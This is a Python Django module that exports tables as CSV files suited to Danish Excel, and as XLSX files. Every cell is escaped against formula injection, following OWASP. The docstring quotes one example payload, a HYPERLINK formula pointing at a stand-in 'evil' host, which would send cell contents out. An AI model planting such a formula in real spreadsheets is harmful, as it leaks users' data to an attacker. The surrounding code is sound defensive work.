"""Tables as downloads: CSV that Danish Excel opens correctly, and real Excel files.

Every cell goes through :func:`spreadsheet_safe` first, so no exported text is ever run
by a spreadsheet as a formula (CSV or formula injection, OWASP): a name such as
``=HYPERLINK("http://evil/?"&A1;"Klik")`` typed into the portal arrives in Excel as text.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Sequence
from decimal import Decimal
from fractions import Fraction
from typing import Any

from django.http import Http404, HttpResponse

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# The characters that make Excel, LibreOffice and Google Sheets read a cell as a formula
# (or, for tab and carriage return, that hide one behind them), as listed by OWASP.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """One cell as it may be written to a spreadsheet.

    Real numbers stay numbers (a negative number passed as a number is a number, not a
    formula); a ``Fraction`` becomes a ``float``, which both formats can write. Dates,
    booleans and ``None`` (an empty cell) stay as they are. Any other value is written as
    text, and text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
    gets a leading apostrophe, OWASP's recommendation, so it is shown, never run.
    """
    if value is None or isinstance(value, bool | int | float | Decimal | dt.date | dt.time):
        return value
    if isinstance(value, Fraction):
        return float(value)
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def table_response(
    rows: Sequence[Sequence[Any]], *, filename: str, extension: str, sheet_title: str = ""
) -> HttpResponse:
    """``rows`` (the first is the header) as ``filename.csv`` or ``filename.xlsx``.

    Cells are made safe with :func:`spreadsheet_safe`: text is never a formula, numbers
    are numbers (typed number cells in Excel).
    """
    safe_rows = [[spreadsheet_safe(value) for value in row] for row in rows]
    if extension == "csv":
        buffer = io.StringIO()
        # A BOM and semicolons: what Excel on Danish Windows expects of a CSV file.
        buffer.write("\ufeff")
        csv.writer(buffer, delimiter=";").writerows(safe_rows)
        response = HttpResponse(buffer.getvalue(), content_type="text/csv; charset=utf-8")
    elif extension == "xlsx":
        from openpyxl import Workbook

        workbook = Workbook()
        sheet = workbook.active
        if sheet_title:
            sheet.title = sheet_title[:31]
        for row in safe_rows:
            sheet.append(row)
        output = io.BytesIO()
        workbook.save(output)
        response = HttpResponse(output.getvalue(), content_type=XLSX)
    else:
        raise Http404
    response["Content-Disposition"] = f'attachment; filename="{filename}.{extension}"'
    return response
